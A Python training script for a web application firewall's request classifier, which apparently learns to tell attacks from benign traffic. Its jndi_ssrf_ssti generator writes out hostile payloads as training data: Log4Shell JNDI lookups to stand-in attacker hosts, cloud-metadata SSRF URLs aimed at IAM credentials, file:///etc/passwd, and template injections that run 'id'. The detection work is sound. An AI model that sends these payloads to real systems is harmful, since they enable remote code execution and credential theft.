#!/usr/bin/env python3
"""Train the local model (models/openflare-local.npz, an addons.fieldmodel.FieldModel) and write its card.

    scripts/train.py [--data a.jsonl.gz,b.jsonl] [--payloads FILE] [--out models/openflare-local.npz]

Input: the JSON Lines corpora (addons/dataset.py; default every file in ../shared/datasets), only their
`train` splits (a training request that also occurs in a test split is dropped first), and the `train`
split of the attack payload lists (../shared/payloads). Each request becomes its fields (addons.fields),
each field its windows (addons.fieldmodel.rows), and the model learns windows:

* benign: every window of every benign training request (the real-world browser and API traffic weighted
  `--realworld-weight` times: real users are what a WAF must not refuse), and generated everyday text
  (scripts/synth.py: words, prose, names with apostrophes, SQL and HTML words in plain sentences);
* attack: each training payload placed `--placements` times into a random field (query, form, JSON,
  header, cookie, path, multipart, XML, a parameter name or JSON key; encoded as a client would, and 30 %
  of them inside ordinary words; a placeholder host such as `example.com` replaced by a made-up one),
  classic attacks from small grammars, Log4Shell lookups, SSRF and template injections; then, once a first
  model is fitted, each attack request of the corpora adds its highest-scoring window (multiple-instance
  learning: a corpus labels requests, not fields; a window seen benign is never picked), weighted by the
  first model's probability of it (`--mil-weight confidence`: a corpus's wrong labels, such as FWAF's
  `/linus's_law/`, count little), and the model is fitted again from the first.

The operating point (the probability at the 6/7 score boundary) is chosen for `--target-fpr` on the
validation part of train: a fifth of the real-world site groups (whole sites, never seen in the fit) and a
tenth of the other records. Everything is seeded: the same data, the same model file.
"""

from __future__ import annotations

import argparse
import datetime
import gzip
import hashlib
import json
import random
import re
import sys
import time
from pathlib import Path
from urllib.parse import quote

import numpy as np

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "scripts"))

from addons import dataset, fieldmodel, learn, model  # noqa: E402
from addons import fields as fieldsmod  # noqa: E402
import synth  # noqa: E402  (the generated text)

T0 = time.time()


def log(msg: str) -> None:
    print(f"[{time.time() - T0:6.0f}s] {msg}", file=sys.stderr, flush=True)


def is_validation(r: dataset.Record) -> bool:
    """Held out of the fit to choose the operating point: a fifth of the real-world site groups (a site is
    never split), a tenth of other records."""
    if r.group:
        return int(hashlib.sha256(r.group.encode()).hexdigest()[:8], 16) % 5 == 0
    return int(hashlib.sha256(repr(r.key() if hasattr(r, "key") else (r.method, r.target, r.body)).encode()).hexdigest()[:8], 16) % 10 == 0


def request_fields(r: dataset.Record) -> fieldsmod.Request | None:
    try:
        return fieldsmod.extract(r.method, r.target, r.headers, r.body)
    except fieldsmod.TooLarge:
        return None


# Where a payload goes, and how it is written there (a client encodes a query; a JSON value is raw).
HEADER_NAMES = ("user-agent", "referer", "x-api-version", "accept-language", "x-forwarded-for", "x-request-id",
                "content-type", "origin", "x-custom", "authorization", "sec-ch-ua", "if-none-match", "forwarded",
                "x-real-ip", "accept", "x-forwarded-host", "true-client-ip", "via", "from", "cache-control", "range",
                "x-requested-with", "x-originating-ip", "x-csrf-token", "if-modified-since", "x-correlation-id",
                "x-device-id", "x-client-version", "x-auth-token", "x-amz-date", "x-debug", "dnt")
PARAM_NAMES = ("id", "q", "search", "page", "name", "file", "url", "cmd", "item", "user", "lang", "redirect", "data")


# Payload lists and our own generators write the attacker's host as an RFC 2606 name (`example.com`,
# `evil.example`), which real apps' origins and links also use (tests, docs, staging). Each placement gets a
# made-up host instead: the model learns the attack around a host, not the placeholder.
_PLACEHOLDER_HOST = re.compile(r"(?i)\b(?:[a-z0-9-]+\.)*example\.(?:com|org|net|io|test)\b|\b(?:[a-z0-9-]+\.)+example\b")


def rehost(payload: str, rng: random.Random) -> str:
    return _PLACEHOLDER_HOST.sub(lambda _m: f"{rng.choice(synth.WORDS).lower()}{rng.choice(('', str(rng.randint(1, 99))))}"
                                            f".{rng.choice(('com', 'net', 'io', 'org', 'xyz', 'site', 'ru', 'cn'))}", payload)

def in_context(payload: str, rng: random.Random) -> str:
    """The payload inside ordinary words, as a comment or a message field carries it: before, after or
    between them (a window holding half prose, half attack must still score as the attack)."""
    where = rng.random()
    before = synth.everyday_text(rng) + " " if where < 0.7 else ""
    after = " " + synth.everyday_text(rng) if where > 0.3 else ""
    return before + payload + after


def jndi_ssrf_ssti(rng: random.Random) -> str:
    """Attack families the payload lists hold few of: Log4Shell lookups, cloud-metadata SSRF, template injection."""
    host = rng.choice(("attacker.example", "x.oast.me", "10.0.0.5:1389", "evil.test", "a.b.c.d.interact.sh"))
    kind = rng.random()
    if kind < 0.4:
        proto = rng.choice(("ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "http"))
        lookup = rng.choice(("${jndi:%s://%s/a}", "${${lower:j}ndi:%s://%s/x}", "${${::-j}${::-n}${::-d}${::-i}:%s://%s/e}",
                             "${jndi:${lower:%s}://%s/o}", "${${env:NaN:-j}ndi${env:NaN:-:}%s://%s/p}"))
        return lookup % (proto, host)
    if kind < 0.7:
        return rng.choice(("http://169.254.169.254/latest/meta-data/iam/security-credentials/",
                           "http://metadata.google.internal/computeMetadata/v1/", "http://[::ffff:a9fe:a9fe]/latest/",
                           "gopher://127.0.0.1:6379/_SET%20x", "file:///etc/passwd", "http://127.0.0.1:2375/containers/json",
                           "http://0x7f000001/admin", "dict://localhost:11211/stats", "http://169.254.169.254/metadata/v1/"))
    return rng.choice(("{{7*7}}", "{{config.items()}}", "${7*7}", "<%= 7*7 %>", "#{7*7}",
                       "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__.__builtins__}}",
                       "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
                       "{{cycler.__init__.__globals__.os.popen('id').read()}}", "*{T(java.lang.System).getenv()}"))


VALUE_PLACES = ("query", "query", "form", "json", "json", "header", "header", "cookie", "path", "multipart", "xml")


def place(payload: str, rng: random.Random, names: bool = True) -> fieldsmod.Field:
    """The payload as one field of a random location (`names`: a parameter name or JSON key is one of them)."""
    loc = rng.choice(VALUE_PLACES + ("name",) if names else VALUE_PLACES)
    name = rng.choice(PARAM_NAMES)
    enc = rng.random()
    if loc == "name":  # a query or form parameter's name, or a JSON key: read in the name class
        where = rng.choice(("query", "form", "json"))
        text = payload if where == "json" or enc >= 0.6 else quote(payload, safe="")
        return fieldsmod.Field(where, text, text, "name")
    if loc in ("query", "form", "json", "multipart", "xml") and rng.random() < 0.3:
        payload = in_context(payload, rng)
    if loc in ("query", "form", "cookie"):
        value = quote(payload, safe="") if enc < 0.5 else (quote(payload, safe="/:=()'\",;") if enc < 0.8 else payload)
        return fieldsmod.Field(loc, name, value)
    if loc == "path":
        if rng.random() < 0.5:  # one segment, words joined by hyphens as in a slug
            return fieldsmod.Field("path", str(rng.randint(0, 4)), quote(payload.replace(" ", "-"), safe=""))
        return fieldsmod.Field("path", "path", "/api/" + quote(payload, safe="/" if enc < 0.5 else ""))
    if loc == "header":
        return fieldsmod.Field("header", rng.choice(HEADER_NAMES), payload)
    return fieldsmod.Field(loc, name, payload)


SPARSE_CATEGORIES = frozenset(("cmdi", "ldapi", "nosqli", "other", "sqli", "ssti", "ssrf", "crlf", "xxe"))


def read_payloads(path: Path, split: str) -> list[tuple[str, str]]:
    with gzip.open(path, "rt") as fh:
        return [(d["payload"], d["category"]) for d in map(json.loads, fh) if d["split"] == split]


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--data", default=None)
    ap.add_argument("--payloads", default=str(ROOT.parent / "shared" / "payloads" / "attack-payloads.jsonl.gz"),
                    help="the attack payload lists (JSON Lines, gzip); '' for none")
    ap.add_argument("--out", type=Path, default=ROOT / "models" / (model.DEFAULT_MODEL + model.MODEL_SUFFIX))
    ap.add_argument("--bits", type=int, default=fieldmodel.BITS)
    ap.add_argument("--C", type=float, default=8.0)
    ap.add_argument("--max-iter", type=int, default=300)
    ap.add_argument("--placements", type=int, default=3)
    ap.add_argument("--everyday", type=int, default=60000)
    ap.add_argument("--generated", type=int, default=8000)
    ap.add_argument("--binary", type=int, default=2000, help="random binary uploads (benign)")
    ap.add_argument("--tokens", type=int, default=8000, help="benign ids and tokens placed in fields")
    ap.add_argument("--tricky", type=int, default=8000, help="benign words that contain attack keywords")
    ap.add_argument("--code", type=int, default=3000, help="benign source-code chunks in bodies")
    ap.add_argument("--realworld-weight", type=float, default=3.0,
                    help="weight of real-world benign windows (real users are what a WAF must not refuse)")
    ap.add_argument("--target-fpr", type=float, default=0.002)
    ap.add_argument("--mil-weight", choices=("confidence", "full"), default="confidence",
                    help="weight of each corpus attack's picked window: the first model's probability of it "
                         "(confidence: label noise counts little) or 1 (full)")
    ap.add_argument("--limit", type=int, default=0, help="at most this many records per source (quick runs)")
    ap.add_argument("--profile-sources", default="csic2010",
                    help="comma-separated sources whose benign requests make the application profile ('' for none)")
    ap.add_argument("--version", default=None, help="the model version in its card (default: local-<UTC time>)")
    ap.add_argument("--seed", type=int, default=1)
    args = ap.parse_args(argv)
    try:
        return train(args)
    except (dataset.DatasetError, ValueError) as e:
        print(f"train: {e}", file=sys.stderr)
        return 2


def train(args: argparse.Namespace) -> int:
    rng = random.Random(args.seed)
    files = dataset.parse_data_arg(args.data)
    records = dataset.load(files)
    split = dataset.honest_split(records)
    train = split.train
    if args.limit:
        per: dict[str, int] = {}
        train = [r for r in train if (per.__setitem__(r.source, per.get(r.source, 0) + 1) or per[r.source]) <= args.limit]
    if not any(r.attack for r in train) or all(r.attack for r in train):
        raise ValueError(f"training needs both attack and benign requests in the train splits of {', '.join(map(str, files))}")
    fit_recs = [r for r in train if not is_validation(r)]
    val_recs = [r for r in train if is_validation(r)]
    log(f"{len(fit_recs)} records to fit, {len(val_recs)} to validate")

    table = learn.Table()
    attack_reqs = []
    for r in fit_recs:
        req = request_fields(r)
        if req is None:
            continue
        if r.attack:
            attack_reqs.append(req)
        else:
            table.add_fields(req.fields, attack=False, weight=args.realworld_weight if r.group else 1.0)
    log(f"benign corpus windows: {len(table):,}")
    for _ in range(args.everyday):
        # Placed exactly as the attacks are (same locations, names and encodings): where a text is, and how
        # it is written, says nothing of its label; only the text does.
        table.add_fields([place(synth.everyday_text(rng), rng)], attack=False)
    for _ in range(args.tokens):
        table.add_fields([place(synth.token(rng), rng)], attack=False)
    for _ in range(args.tricky):
        table.add_fields([place(synth.tricky_text(rng), rng)], attack=False)
    for chunk in synth.code_snippets(rng, args.code):
        loc = rng.choice(("json", "json", "form", "multipart", "text"))
        table.add_fields([fieldsmod.Field(loc, rng.choice(PARAM_NAMES + ("code", "content", "text")), chunk)], attack=False)
    log(f"with everyday text, tokens, tricky words and code: {len(table):,}")
    for _ in range(args.binary):
        # Compressed or encrypted uploads: their printable runs are symbol soup, not an attack.
        blob = rng.randbytes(rng.randint(512, 16384))
        mime = rng.choice(("application/octet-stream", "application/zip", "image/jpeg", "application/x-protobuf", ""))
        got = request_fields(dataset.Record("POST", "/upload", [("Content-Type", mime)] if mime else [], blob,
                                            "benign", "train", "synthetic-binary", "binary"))
        if got is not None:
            table.add_fields([f for f in got.fields if f.loc == "text"], attack=False)
    log(f"with binary uploads: {len(table):,}")

    try:
        payloads = read_payloads(Path(args.payloads), "train") if args.payloads else []
    except (OSError, ValueError, KeyError) as e:
        print(f"train: cannot read the payloads {args.payloads}: {e}", file=sys.stderr)
        return 2
    for p, cat in payloads:
        # The categories of few and varied payloads (command and LDAP injection, SQL, templates, ...) are
        # placed twice as often: each payload is learnt in more places.
        for _ in range(args.placements * (2 if cat in SPARSE_CATEGORIES else 1)):
            table.add_fields([place(rehost(p, rng), rng)], attack=True)
    for _ in range(args.generated):
        table.add_fields([place(rehost(synth.generated_attack(rng), rng), rng)], attack=True)
        table.add_fields([place(rehost(jndi_ssrf_ssti(rng), rng), rng)], attack=True)
    log(f"with placed payloads ({len(payloads)}) and generated attacks: {len(table):,}")

    m = learn.fit(table, args.bits, args.C, max_iter=args.max_iter, log=log)
    log("stage 1 fitted; picking each corpus attack's window")
    for req in attack_reqs:
        r, best = learn.best_windows(m, req.fields, 1, benign=table)
        # A corpus labels whole requests, and some labels are wrong (a keyword grep called `/linus's_law/`
        # an attack): a window counts as much as the first model believes it is one.
        weight = learn.confidence(m, r, best[0]) if best and args.mil_weight == "confidence" else 1.0
        table.add(r, attack=True, weight=weight, only=best)
    m = learn.fit(table, args.bits, args.C, max_iter=args.max_iter, start=m, log=log)
    log("stage 2 fitted")

    sources = {x.strip() for x in args.profile_sources.split(",") if x.strip()}
    profile_recs = [request_fields(r) for r in fit_recs if r.source in sources and not r.attack]
    if profile_recs:
        m.profile = fieldmodel.AppProfile().fit(q.fields for q in profile_recs if q)

    real_sources = {r.source for r in train if r.group}
    by_source: dict[str, tuple[list[float], list[int]]] = {}
    for r in val_recs:
        req = request_fields(r)
        p = 1.0 if req is None else m.score(req).p
        ps, ys = by_source.setdefault(r.source, ([], []))
        ps.append(p)
        ys.append(int(r.attack))
    rw = [p for src, (ps, ys) in by_source.items() if src in real_sources for p, y in zip(ps, ys) if not y]
    op = learn.threshold_at(rw, args.target_fpr) if rw else 0.5
    m.violation_p = op + (1 - op) / 2
    log(f"operating point {op:.4f} (real-world validation FPR target {args.target_fpr})")
    metrics = {}
    for src, (ps, ys) in sorted(by_source.items()):
        ps, ys = np.array(ps), np.array(ys)
        tpr = float((ps[ys == 1] >= op).mean()) if (ys == 1).any() else None
        fpr = float((ps[ys == 0] >= op).mean()) if (ys == 0).any() else None
        metrics[src] = {"n": len(ps), "tpr": tpr, "fpr": fpr}
        log(f"  val {src}: n={len(ps)} TPR {tpr} FPR {fpr}")
    card = {
        "version": args.version or "local-" + datetime.datetime.now(datetime.timezone.utc).strftime("%Y%m%d%H%M%S"),
        "format": fieldmodel.FORMAT,
        "created": datetime.datetime.now(datetime.timezone.utc).isoformat(timespec="seconds"),
        "estimator": f"field model: hashed byte 1-5-grams per window of {fieldmodel.WINDOW} characters, logistic "
                     f"regression (C={args.C}), {args.bits}-bit shared and per-class blocks, libinjection signals",
        "operating_point": op,
        "threshold": 6,
        "target_fpr": args.target_fpr,
        "validation": "a fifth of the real-world site groups and a tenth of the other training records, held out of the fit",
        "data_sources": [{"file": str(f), "records": sum(1 for r in records if r.where.startswith(f"{f}:"))} for f in files],
        "sources": sorted({r.source for r in train}),
        "payloads": {"file": Path(args.payloads).name, "train": len(payloads)} if payloads else None,
        "train_counts": {src: {"attack": sum(1 for r in fit_recs if r.source == src and r.attack),
                               "benign": sum(1 for r in fit_recs if r.source == src and not r.attack)}
                         for src in sorted({r.source for r in fit_recs})},
        "windows": {"attack": int(sum(1 for x in table.pos if x > 0)), "benign": int(sum(1 for x in table.neg if x > 0))},
        "validation_records": len(val_recs),
        "profile": {"sources": sorted(sources), "roots": list(m.profile.roots), "paths": len(m.profile.paths)} if m.profile else None,
        "metrics_validation": metrics,
        "seed": args.seed,
    }
    try:
        args.out.parent.mkdir(parents=True, exist_ok=True)
        m.save(args.out)
        model.write_card(args.out, card)
    except OSError as e:
        print(f"train: cannot write {args.out}: {e}", file=sys.stderr)
        return 2
    log(f"wrote {args.out} ({args.out.stat().st_size / 1e6:.1f} MB) and its card: version {card['version']}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
